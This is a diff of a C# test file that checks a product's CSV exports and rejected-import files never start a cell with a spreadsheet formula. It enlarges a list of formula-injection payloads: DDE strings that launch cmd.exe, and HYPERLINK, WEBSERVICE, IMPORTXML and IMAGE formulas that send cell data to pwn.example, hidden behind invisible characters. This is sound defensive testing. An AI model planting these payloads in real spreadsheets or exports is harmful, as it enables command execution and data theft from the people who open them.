@@ -9,6 +9,7 @@ using Ringfence.Server.Gate.Snapshot;
 using Ringfence.Server.Lists;
 using Ringfence.Server.People;
 using Ringfence.Server.Tests.Gate;
+using Ringfence.Server.Tests.Ledger;
 using Ringfence.Server.Tests.Lists.Scrub;
 using Ringfence.Server.Tests.Pages;
 using Ringfence.Server.Tests.People;
@@ -20,14 +21,38 @@ namespace Ringfence.Server.Tests.Lists;
 /// <summary>No cell of a file that the product writes begins as a formula, whatever a list said and whichever way a spreadsheet program parts the cells; numbers stay numbers.</summary>
 public sealed class HostileExportTests : IDisposable
 {
-    private static readonly string[] Starts = ["=", "+", "-", "@", "\t=", "\n=", "\0=", " =", "＝", "＋", "－", "＠", "\uFEFF=", "x;=", "x; @", "x\n-", "x\t+"];
-    private static readonly string[] Bodies = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://pwn.example\",\"x\")", "SUM(1,2);=1"];
+    // What a cell may begin with before the sign: nothing, every kind of blank, controls, marks that nobody sees, quotes.
+    private static readonly string[] Before = ["", " ", "   ", "\t", "\n", "\r\n", "\0", "\u0001", "\v", "\u007F", "\u00A0", "\u2003", "\u3000", "\u200B", "\u2060", "\uFEFF", "\u202E", " \t\u00A0"];
 
-    private static readonly string[] Formulas = [.. Starts.SelectMany(static start => Bodies.Select(body => start + body))];
+    // What ends another cell or row before it, for a program that parts them otherwise.
+    private static readonly string[] Within = ["x;", "x\t", "x\n", "x\r\n", "x; ", "x;\"", "\"x\";\"", "x;\u00A0", "1;;", "x\t\""];
+
+    // In ASCII, of full width, small, and the minus of typesetters.
+    private static readonly string[] Signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];
+
+    // What would be run: sums, programs by DDE, links and pictures that carry the sheet away, functions by @, more separators and quotes.
+    private static readonly string[] Bodies =
+    [
+        "1+1", "cmd|' /C calc'!A0", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!x", "DDE(\"cmd\";\"/C calc\";\"!A0\")", "HYPERLINK(\"http://pwn.example?\"&A1,\"x\")", "WEBSERVICE(\"http://pwn.example\")",
+        "IMPORTXML(CONCAT(\"http://pwn.example/\",A1),\"//a\")", "IMAGE(\"http://pwn.example/\"&A1)", "SUM(1,2);=1", "SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1:A9)", "RTD(\"pwn\",\"\",\"x\")", "2+5+cmd|'/C calc'!A0\r=1", "\"=1+1\"", "1\t=1\n@1",
+    ];
+
+    // Every beginning with every sign; what comes then goes round.
+    private static readonly string[] Formulas = [.. from before in Before.Concat(Within).Index() from sign in Signs.Index() select before.Item + sign.Item + Bodies[((before.Index * 4) + (sign.Index * 7)) % Bodies.Length]];
 
     private readonly ScrubHome home = new();
 
     public void Dispose() => home.Dispose();
+
+    [Fact]
+    public void There_are_three_hundred_formulas_and_more_no_two_alike()
+    {
+        Assert.InRange(Formulas.Distinct(StringComparer.Ordinal).Count(), 300, Formulas.Length);
+        Assert.Equal(Formulas.Length, Formulas.Distinct(StringComparer.Ordinal).Count());
+        // Each is one to a program that parts cells by some separator, as it stands.
+        Assert.All(Formulas, static formula => Assert.Contains(",;\t", separator => Cells(formula + "\n", separator).SelectMany(static row => row).Any(IsFormula)));
+        Assert.All(Bodies, static body => Assert.Contains(Formulas, formula => formula.EndsWith(body, StringComparison.Ordinal)));
+    }
 
     [Fact]
     public void No_file_of_an_audit_holds_a_formula()
@@ -70,6 +95,20 @@ public sealed class HostileExportTests : IDisposable
         // What was written stays to be read, behind the mark that makes it a text.
         Assert.All(rows[1..].Zip(Formulas), static pair => Assert.Equal(Plain(pair.Second), Plain(pair.First[1])));
         Assert.Equal(1, name);
+    }
+
+    [Fact]
+    public async Task No_file_of_rows_that_an_import_rejected_holds_a_formula()
+    {
+        await using var house = await House.BuildAsync();
+        // Every second number is none.
+        var list = new StringBuilder("phone,name\n");
+        foreach (var (i, formula) in Formulas.Index())
+            list.Append(CultureInfo.InvariantCulture, $"{Number(i)},{Quoted(formula)}\n{Quoted(formula)},{Quoted(formula)}\n");
+        await house.ImportAsync(list.ToString(), ContactSource.Form, name: "=cmd;@x.csv");
+        var text = await File.ReadAllTextAsync(Path.Combine(house.Folder, "rejected.csv"), TestContext.Current.CancellationToken);
+        Assert.InRange(Cells(text, ',').Length, 300, int.MaxValue);
+        Harmless("rejected", text);
     }
 
     [Fact]
@@ -123,8 +162,8 @@ public sealed class HostileExportTests : IDisposable
     // Written apart from what is tested: a number, and dashes that mean nothing, compute nothing.
     private static bool IsFormula(string cell)
     {
-        var text = cell.TrimStart(' ');
-        return text.Length > 0 && (text[0] is '=' or '@' or '\0' or '＝' or '＋' or '－' or '＠' or '\t' or '\r' || (text[0] == '+' && !text[1..].All(char.IsAsciiDigit)) || (text[0] == '-' && !text.All(static c => c == '-')));
+        var text = cell.TrimStart([.. cell.Where(static c => char.IsWhiteSpace(c) || char.IsControl(c) || char.GetUnicodeCategory(c) == UnicodeCategory.Format)]);
+        return text.Length > 0 && Signs.Contains(text[..1]) && !(text[0] == '+' && text.Length > 1 && text[1..].All(char.IsAsciiDigit)) && !text.All(static c => c == '-');
     }
 
     // A cell is quoted where it begins with a quote, and nowhere else.
@@ -169,5 +208,5 @@ public sealed class HostileExportTests : IDisposable
     }
 
     // Without marks, and what a reader of lists takes off or writes otherwise.
-    private static string Plain(string text) => string.Concat(text.Where(static c => c is not ('\'' or '\0' or '\uFEFF') && !char.IsWhiteSpace(c)));
+    private static string Plain(string text) => string.Concat(text.Where(static c => c != '\'' && !char.IsWhiteSpace(c) && !char.IsControl(c) && char.GetUnicodeCategory(c) != UnicodeCategory.Format));
 }
